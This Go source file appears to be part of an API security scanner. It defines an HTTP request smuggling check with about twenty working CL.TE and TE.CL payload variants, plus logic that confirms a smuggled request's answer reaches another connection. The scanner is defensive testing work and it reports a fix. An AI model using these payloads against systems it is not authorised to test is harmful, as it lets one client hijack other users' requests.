package security

import (
	"context"
	"fmt"
	"io"
	"strings"
	"time"

	"github.com/launchgate/launchgate/internal/recording"
)

var smuggling = Check{
	Name:    "smuggling",
	Asks:    "whether two servers in a chain disagree on where a request ends, so that a part of one client's request becomes the beginning of another's (request smuggling)",
	Control: "ten ordinary requests on another connection get the usual answer; an ordinary request for the smuggled path gets a different one",
	Flaw:    "twice, with two random paths, a later ordinary request on another connection gets the answer of the smuggled path, which was sent only inside the body of an earlier request",
	Planted: "a test listener in which two servers disagree: cl-te (net/http itself cannot)",
	Cap:     Cap{Requests: 1200, Seconds: 60, Bytes: 16 << 20},
	worst:   "CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:C/C:H/I:H/A:L",
	run:     runSmuggling,
}

// ambiguous is a request whose end two servers may see in different places. If one sees
// it before rest, then rest becomes the next request.
type ambiguous struct {
	kind string
	wire func(host, path, rest string) string
}

func head(host, path string, headers ...string) string {
	return "POST " + path + " HTTP/1.1\r\nHost: " + host + "\r\nContent-Type: application/json\r\n" + strings.Join(headers, "\r\n") + "\r\n\r\n"
}

// clte makes a request whose Content-Length covers all of it and whose chunks end
// before rest: a server that goes by chunks takes rest for another request.
func clte(te ...string) func(host, path, rest string) string {
	return func(host, path, rest string) string {
		body := "0\r\n\r\n" + rest
		return head(host, path, append([]string{fmt.Sprintf("Content-Length: %d", len(body))}, te...)...) + body
	}
}

// tecl makes a request whose chunks cover all of it and whose Content-Length covers
// only the size of the first chunk: a server that goes by length takes rest for another
// request.
func tecl(te ...string) func(host, path, rest string) string {
	return func(host, path, rest string) string {
		size := fmt.Sprintf("%x\r\n", len(rest))
		return head(host, path, append([]string{fmt.Sprintf("Content-Length: %d", len(size))}, te...)...) + size + rest + "\r\n0\r\n\r\n"
	}
}

var ambiguities = []ambiguous{
	{"CL.TE", clte("Transfer-Encoding: chunked")},
	{"TE.CL", tecl("Transfer-Encoding: chunked")},
	{"CL.TE, blank before the colon", clte("Transfer-Encoding : chunked")},
	{"TE.CL, blank before the colon", tecl("Transfer-Encoding : chunked")},
	{"CL.TE, tab", clte("Transfer-Encoding:\tchunked")},
	{"CL.TE, vertical tab", clte("Transfer-Encoding: \vchunked")},
	{"TE.CL, vertical tab", tecl("Transfer-Encoding: \vchunked")},
	{"CL.TE, xchunked", clte("Transfer-Encoding: xchunked")},
	{"TE.CL, xchunked", tecl("Transfer-Encoding: xchunked")},
	{"CL.TE, two of them", clte("Transfer-Encoding: chunked", "Transfer-Encoding: identity")},
	{"TE.CL, two of them", tecl("Transfer-Encoding: chunked", "Transfer-Encoding: cow")},
	{"TE.CL, list", tecl("Transfer-Encoding: identity, chunked")},
	{"CL.TE, folded", clte("Transfer-Encoding:\r\n chunked")},
	{"CL.TE, bare line feed", clte("X: y\nTransfer-Encoding: chunked")},
	{"TE.CL, quoted", tecl(`Transfer-Encoding: "chunked"`)},
	{"TE.CL, capitals", tecl("TRANSFER-ENCODING: CHUNKED")},
	{"two lengths, the first 0", func(host, path, rest string) string {
		return head(host, path, "Content-Length: 0", fmt.Sprintf("Content-Length: %d", len(rest))) + rest
	}},
	{"two lengths, the last 0", func(host, path, rest string) string {
		return head(host, path, fmt.Sprintf("Content-Length: %d", len(rest)), "Content-Length: 0") + rest
	}},
	{"a length with a sign", func(host, path, rest string) string {
		return head(host, path, fmt.Sprintf("Content-Length: +%d", len(rest))) + rest
	}},
	{"a chunk size after an extension with a bare line feed", func(host, path, rest string) string {
		return head(host, path, "Transfer-Encoding: chunked") + "2;\nxx\r\n" + fmt.Sprintf("%x\r\n", len(rest)) + "0\r\n\r\n" + rest + "\r\n0\r\n\r\n"
	}},
	{"GET with a body", func(host, path, rest string) string {
		return strings.Replace(head(host, path, fmt.Sprintf("Content-Length: %d", len(rest))), "POST", "GET", 1) + rest
	}},
}

func runSmuggling(ctx context.Context, t *trial) end {
	victim := request{method: "GET", path: "/v1/models", key: t.target.Key}
	usual := t.ask(ctx, victim)
	if usual.err != nil || !usual.ok() {
		return unproven("the ordinary request of the victim (GET /v1/models) did not get 2xx")
	}
	absent := t.ask(ctx, request{method: "GET", path: "/" + t.random.letters(12), key: t.target.Key})
	if absent.err != nil || absent.status == usual.status {
		return unproven("a missing path gets the same answer as an existing one, so a smuggled request could not be recognised")
	}
	for range 10 {
		if a := t.ask(ctx, victim); a.err == nil && a.status != usual.status && !a.limited() {
			return unproven("the ordinary request of the victim does not always get the same answer (%s and %s)", number(int64(usual.status)), number(int64(a.status)))
		}
	}
	answered := 0
	for _, a := range ambiguities {
		if ctx.Err() != nil {
			break
		}
		sent, came, took, ok := t.smuggle(ctx, a, victim, usual)
		if ok {
			answered++
		}
		if !took {
			continue
		}
		if _, _, again, _ := t.smuggle(ctx, a, victim, usual); again {
			t.found(flaw{
				title: say("a part of one client's request becomes another client's request (%s)", a.kind), kind: a.kind, where: "POST /v1/chat/completions", vector: t.check.worst,
				tags: []string{"OWASP API8:2023", "CWE-444"}, evidence: []recording.Exchange{{Sent: printable(clip(sent, 600)), Came: came}},
				verified: say("twice, a later ordinary request on another connection got the answer of a random path from the body of the request before; earlier ordinary requests never did"),
				fix:      say("at the first server, refuse requests with both Content-Length and Transfer-Encoding or with an unusual spelling of either; between servers, use HTTP/2 or no keep-alive"),
			})
		}
	}
	if answered == 0 {
		return unproven("none of the ambiguous requests got any answer")
	}
	return t.ended("%s ambiguous requests were answered or refused, and none changed the answer to a later request", number(int64(answered)))
}

// smuggle sends an ambiguous request over one connection, and plain ones over others;
// took is whether one of those got the answer of the smuggled path.
func (t *trial) smuggle(ctx context.Context, a ambiguous, victim request, usual answer) (sent, came string, took, answered bool) {
	marked := "/" + t.random.letters(16)
	auth := ""
	if t.target.Key != "" {
		auth = "Authorization: Bearer " + t.target.Key + "\r\n"
	}
	// rest is the beginning of a request. The victim's first line completes its last
	// header, and the victim's Host header becomes its own.
	rest := "GET " + marked + " HTTP/1.1\r\n" + auth + "X-Rest: "
	sent = strings.Replace(a.wire(t.host, "/v1/chat/completions", rest), "Content-Type:", auth+"Content-Type:", 1)
	l, err := t.dial(ctx, t.next(), "http/1.1")
	if err != nil {
		return sent, "", false, false
	}
	defer l.Close()
	_ = l.SetDeadline(time.Now().Add(2 * time.Second))
	if _, err := io.WriteString(l, sent); err != nil {
		return sent, "", false, false
	}
	first := l.read("POST")
	answered = first.err == nil
	for range 4 {
		got := t.once(ctx, victim)
		if got.err != nil || got.limited() || got.status == usual.status {
			continue
		}
		// One different answer may be chance. It has to be the answer of a missing
		// path, and a moment later the usual answer has to be back.
		if after := t.ask(ctx, victim); after.status == usual.status {
			return sent, "a plain GET /v1/models on another connection: " + got.String(), true, answered
		}
	}
	return sent, "", false, answered
}
